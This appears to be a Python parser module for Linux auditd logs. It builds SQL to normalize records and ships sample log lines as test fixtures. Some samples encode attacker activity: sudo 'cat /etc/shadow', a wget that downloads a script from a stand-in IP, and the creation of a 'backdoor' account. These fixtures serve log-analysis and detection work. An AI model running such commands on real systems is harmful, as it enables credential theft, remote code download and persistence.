"""Linux audit log (``/var/log/audit/audit.log``): ``type=T msg=audit(EPOCH.MS:SERIAL): key=value ...``.

Every record is an event, its action the record type in lower case (``user_login``, ``user_start``,
``cred_acq``, ``user_cmd``, ``execve``, ``syscall``, ``add_user``, ...), except PAM authentication
(``USER_AUTH`` with ``op=PAM:authentication``), which takes the OpenSSH vocabulary's
``auth_password`` so that sessions read it like the sshd line it mirrors.

Fields: ``acct`` (else the ``id``/``AUID`` name of enriched logs) -> ``user``, ``addr`` (else
``hostname``, ``?`` being none) -> ``src_ip``, ``res``/``success`` -> ``outcome``, ``exe`` ->
``program`` (its base name; the path stays in ``message``), ``pid``, ``ses`` -> ``session`` (unset,
4294967295, is none), ``node`` -> ``host``. Hex-encoded values (auditd writes untrusted strings
quoted or as hex) are decoded: ``acct``, ``exe``, ``cmd`` of USER_CMD, the ``a0``..``aN`` of EXECVE
(joined by spaces into ``command``) and PROCTITLE. Records of one event share the serial: a
fixup gives each record of a group the command, program, pid, user and session its siblings
know (the SYSCALL of an execve gets the command line, the EXECVE the program and user).
``ausearch`` output is read too (interpreted dates, ``----`` separators skipped), and ``#``
comment lines are skipped. Older sshd's own USER_AUTH (``op=password``, ``op=pubkey``) are
``auth_password`` / ``auth_publickey``.
A line that is not an audit record is a reject with the reason.
"""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime
import re
from typing import Any

from engine.formats.base import FileContext, LogFormat, Sample
from engine.formats.sshd import sql_str

_HEAD_RE = re.compile(r"^(?:node=\S+ )?type=[A-Z_0-9]+ msg=audit\([0-9./: ]+:[0-9]+\) ?:")
# The record head: node, type, time (epoch or ausearch's interpreted date) and serial.
REJECT_NOT_AUDIT = "not an audit record (no type=... msg=audit(TIME:SERIAL): head)"


def detect(lines: Sequence[str]) -> float:
    lines = [ln for ln in lines if ln.strip() and not ln.startswith(("----", "#"))]
    if not lines:
        return 0.0
    return sum(1 for ln in lines if _HEAD_RE.match(ln)) / len(lines)


def _field(key: str) -> str:
    """The value of ``key`` in the record (NULL when absent), quotes taken off."""
    return f"trim(_v[list_position(_k, {sql_str(key)})], '\"')"


def _decoded(key: str) -> str:
    """A field auditd may hex-encode: quoted stays as is, bare hex is decoded (NULs -> spaces)."""
    v = f"_v[list_position(_k, {sql_str(key)})]"
    return (
        f"CASE WHEN starts_with({v}, '\"') THEN trim({v}, '\"') "
        f"WHEN regexp_full_match({v}, '(?:[0-9A-Fa-f]{{2}})+') "
        f"THEN rtrim(replace(coalesce(try(decode(unhex({v}))), {v}), chr(0), ' ')) ELSE {v} END"
    )


def _none(expr: str) -> str:
    return f"nullif(nullif(nullif({expr}, '?'), ''), '(null)')"


def build_sql(ctx: FileContext) -> tuple[str, dict[str, Any]]:
    exe = _decoded("exe")
    # EXECVE's a0..aN in the record's order, each quoted or hex.
    value = "substr(x, strpos(x, '=') + 1)"
    args = (
        "array_to_string(list_transform(list_filter(_t, lambda x: regexp_full_match(x, 'a[0-9]+=.*')), "
        f"lambda x: CASE WHEN starts_with({value}, '\"') THEN trim({value}, '\"') "
        f"ELSE coalesce(replace(try(decode(unhex({value}))), chr(0), ' '), {value}) END), ' ')"
    )
    epoch = "TRY_CAST(_time AS DOUBLE)"
    interpreted = "timezone($tz, try_strptime(_time, '%m/%d/%Y %H:%M:%S.%g'))"
    res = f"lower(coalesce({_field('res')}, {_field('success')}))"
    # The head is taken apart with string functions, not a regex (a regex over every line cost
    # more than all the rest): [node=N ]type=T msg=audit(TIME:SERIAL): body. The body becomes one
    # list of key=value tokens: the user-space part msg='...' and enriched logs' names (after a
    # GS byte) flattened in; auditd hex-encodes any value with a space in it.
    tokens = "string_split(replace(replace(replace(_body, 'msg=''', ''), '''', ' '), chr(29), ' '), ' ')"
    sql = f"""
WITH a AS (
    SELECT line_no, line, strpos(line, ' msg=audit(') AS _p FROM _lines
), b AS (
    SELECT line_no, line, left(line, _p - 1) AS _pre, substr(line, _p + 11) AS _rest FROM a WHERE _p > 0
), c AS (
    SELECT line_no, line,
           CASE WHEN starts_with(_pre, 'type=') THEN _pre[6:]
                WHEN starts_with(_pre, 'node=') AND contains(_pre, ' type=') THEN split_part(_pre, ' type=', 2) END
               AS _ty,
           CASE WHEN starts_with(_pre, 'node=') THEN split_part(_pre[6:], ' ', 1) END AS _node,
           left(_rest, strpos(_rest, ')') - 1) AS _inside,
           ltrim(ltrim(ltrim(substr(_rest, strpos(_rest, ')') + 1)), ':')) AS _body
    FROM b
), d AS (
    SELECT line_no, line, _node, _body,
           CASE WHEN regexp_full_match(_ty, '[A-Za-z_0-9]+') AND strpos(_inside, ':') > 0 THEN _ty END AS _type,
           left(_inside, length(_inside) - strpos(reverse(_inside), ':')) AS _time,
           {tokens} AS _t
    FROM c
), e AS (
    SELECT *, list_transform(_t, lambda x: CASE WHEN contains(x, '=') THEN split_part(x, '=', 1) ELSE '' END) AS _k,
              list_transform(_t, lambda x: substr(x, strpos(x, '=') + 1)) AS _v
    FROM d
)
SELECT
    line_no,
    line AS raw,
    CASE WHEN _type IS NOT NULL THEN coalesce(to_timestamp({epoch}), {interpreted}) END AS ts,
    nullif(_node, '') AS host,
    regexp_extract({_none(exe)}, '[^/]*$') AS program,
    TRY_CAST({_field('pid')} AS BIGINT) AS pid,
    CASE WHEN _type = 'USER_AUTH' AND {_field('op')} IN ('PAM:authentication', 'password') THEN 'auth_password'
         WHEN _type = 'USER_AUTH' AND {_field('op')} = 'pubkey' THEN 'auth_publickey'
         ELSE lower(_type) END AS action,
    CASE WHEN {res} IN ('success', 'yes') THEN 'success' WHEN {res} IN ('failed', 'no', 'fail') THEN 'failure' END
        AS outcome,
    CASE WHEN _type = 'USER_AUTH' AND {_field('op')} IN ('PAM:authentication', 'password') THEN 'password'
         WHEN _type = 'USER_AUTH' AND {_field('op')} = 'pubkey' THEN 'publickey' END AS auth_method,
    {_none(f"coalesce({_none(_field('addr'))}, {_field('hostname')})")} AS src_ip,
    coalesce({_none(_decoded('acct'))}, {_none(_field('ID'))}, {_none(_field('AUID'))}) AS "user",
    nullif({_field('ses')}, '4294967295') AS session,
    CASE _type WHEN 'EXECVE' THEN {args}
               WHEN 'USER_CMD' THEN {_decoded('cmd')}
               WHEN 'PROCTITLE' THEN {_decoded('proctitle')} END AS command,
    _type || ' ' || _body AS message,
    CASE WHEN _type IS NULL OR ({epoch} IS NULL AND {interpreted} IS NULL) THEN {sql_str(REJECT_NOT_AUDIT)} END
        AS _reject,
    NULL::VARCHAR AS _skip
FROM e
UNION ALL BY NAME
SELECT line_no, line AS raw, NULL::VARCHAR AS _reject,
       CASE WHEN starts_with(line, '#') THEN 'comment line' ELSE 'ausearch separator' END AS _skip
FROM _lines WHERE strpos(line, ' msg=audit(') = 0 AND (starts_with(line, '----') OR starts_with(line, '#'))
UNION ALL BY NAME
SELECT line_no, line AS raw, {sql_str(REJECT_NOT_AUDIT)} AS _reject, NULL::VARCHAR AS _skip
FROM _lines WHERE strpos(line, ' msg=audit(') = 0 AND NOT starts_with(line, '----') AND NOT starts_with(line, '#')
"""
    return sql, {"tz": ctx.tz}


# The time:serial of a record, by string functions (cheaper than a regex on every row).
_SERIAL = "split_part(split_part(raw, 'msg=audit(', 2), ')', 1)"

# The records of one event (same time:serial) share what each knows.
GROUP_SQL = f"""
UPDATE _parsed SET command = coalesce(_parsed.command, g.command),
                   program = coalesce(_parsed.program, g.program),
                   pid = coalesce(_parsed.pid, g.pid),
                   "user" = coalesce(_parsed."user", g."user"),
                   session = coalesce(_parsed.session, g.session)
FROM (
    SELECT {_SERIAL} AS serial,
           coalesce(any_value(command) FILTER (action = 'execve'), any_value(command) FILTER (action = 'proctitle'),
                    any_value(command)) AS command,
           any_value(program) AS program, any_value(pid) AS pid, any_value("user") AS "user",
           any_value(session) AS session
    FROM _parsed WHERE _reject IS NULL AND _skip IS NULL
    GROUP BY 1 HAVING count(*) > 1
) g
WHERE {_SERIAL.replace('raw', '_parsed.raw')} = g.serial AND _parsed._reject IS NULL AND _parsed._skip IS NULL
"""


def _utc(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=UTC)


SAMPLES = (
    Sample(
        "type=USER_AUTH msg=audit(1700000000.123:456): pid=1234 uid=0 auid=4294967295 ses=4294967295 "
        "subj=unconfined msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" "
        "hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'",
        {"ts": _utc(2023, 11, 14, 22, 13, 20, 123000), "action": "auth_password", "outcome": "failure",
         "user": "root", "src_ip": "203.0.113.9", "program": "sshd", "pid": 1234, "session": None,
         "auth_method": "password", "_reject": None},
    ),
    Sample(
        "type=USER_LOGIN msg=audit(1700000005.000:460): pid=1234 uid=0 auid=0 ses=5 msg='op=login id=0 "
        "exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=/dev/pts/0 res=success'",
        {"action": "user_login", "outcome": "success", "src_ip": "203.0.113.9", "session": "5", "user": None},
    ),
    Sample(
        "type=USER_LOGIN msg=audit(1700000006.000:461): pid=1240 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.4 "
        "terminal=ssh res=failed'",
        {"action": "user_login", "outcome": "failure", "user": "(invalid user)", "src_ip": "198.51.100.4"},
    ),
    Sample(
        "type=USER_START msg=audit(1700000005.010:462): pid=1234 uid=0 auid=0 ses=5 msg='op=PAM:session_open "
        "grantors=pam_selinux,pam_loginuid acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 "
        "addr=203.0.113.9 terminal=ssh res=success'",
        {"action": "user_start", "outcome": "success", "user": "root"},
    ),
    Sample(
        "type=CRED_ACQ msg=audit(1700000005.005:463): pid=1234 uid=0 auid=4294967295 ses=4294967295 "
        "msg='op=PAM:setcred grantors=pam_unix acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 "
        "addr=203.0.113.9 terminal=ssh res=success'",
        {"action": "cred_acq", "user": "root", "outcome": "success"},
    ),
    Sample(
        "type=USER_CMD msg=audit(1700000100.000:470): pid=2000 uid=1000 auid=1000 ses=5 "
        "msg='cwd=\"/home/alice\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
        {"action": "user_cmd", "command": "cat /etc/shadow", "program": "sudo", "session": "5"},
    ),
    Sample(
        "type=EXECVE msg=audit(1700000200.000:500): argc=3 a0=\"wget\" a1=\"-q\" a2=687474703A2F2F3139382E35312E3130302E372F782E7368",
        {"action": "execve", "command": "wget -q http://198.51.100.7/x.sh"},
    ),
    Sample(
        "type=SYSCALL msg=audit(1700000200.000:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 "
        "a2=55d2 a3=0 items=2 ppid=1999 pid=2001 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=5 comm=\"wget\" "
        "exe=\"/usr/bin/wget\" key=\"exec\"",
        {"action": "syscall", "outcome": "success", "program": "wget", "pid": 2001, "session": "5",
         "command": None},
    ),
    Sample(
        "node=web1 type=ADD_USER msg=audit(1700000300.000:510): pid=3000 uid=0 auid=1000 ses=5 msg='op=add-user "
        "acct=\"backdoor\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'",
        {"action": "add_user", "user": "backdoor", "host": "web1", "src_ip": None, "program": "useradd"},
    ),
    Sample(
        "type=USER_CHAUTHTOK msg=audit(1700000301.000:511): pid=3001 uid=0 auid=1000 ses=5 msg='op=PAM:chauthtok "
        "grantors=pam_unix acct=\"backdoor\" exe=\"/usr/bin/passwd\" hostname=? addr=? terminal=pts/0 res=success'",
        {"action": "user_chauthtok", "user": "backdoor", "outcome": "success"},
    ),
    Sample(
        "type=DEL_USER msg=audit(1700000400.000:512): pid=3002 uid=0 auid=1000 ses=5 msg='op=delete-user "
        "acct=\"backdoor\" exe=\"/usr/sbin/userdel\" hostname=? addr=? terminal=pts/0 res=success'",
        {"action": "del_user", "user": "backdoor"},
    ),
    Sample(
        "type=USER_AUTH msg=audit(11/14/2023 22:13:20.123:456) : pid=1234 uid=root msg='op=PAM:authentication "
        "acct=alice exe=/usr/sbin/sshd addr=192.0.2.1 res=success'",
        {"ts": _utc(2023, 11, 14, 22, 13, 20, 123000), "action": "auth_password", "user": "alice",
         "outcome": "success", "src_ip": "192.0.2.1", "program": "sshd"},
    ),
    Sample("----", {"_skip": "ausearch separator", "_reject": None}),
    Sample("Nov 14 22:13:20 host sshd[1]: Accepted password for root", {"_reject": REJECT_NOT_AUDIT}),
)

FORMAT = LogFormat(
    name="auditd",
    title="Linux audit log (auditd)",
    detect=detect,
    build_sql=build_sql,
    samples=SAMPLES,
    priority=10,
    fixups=(GROUP_SQL,),
)
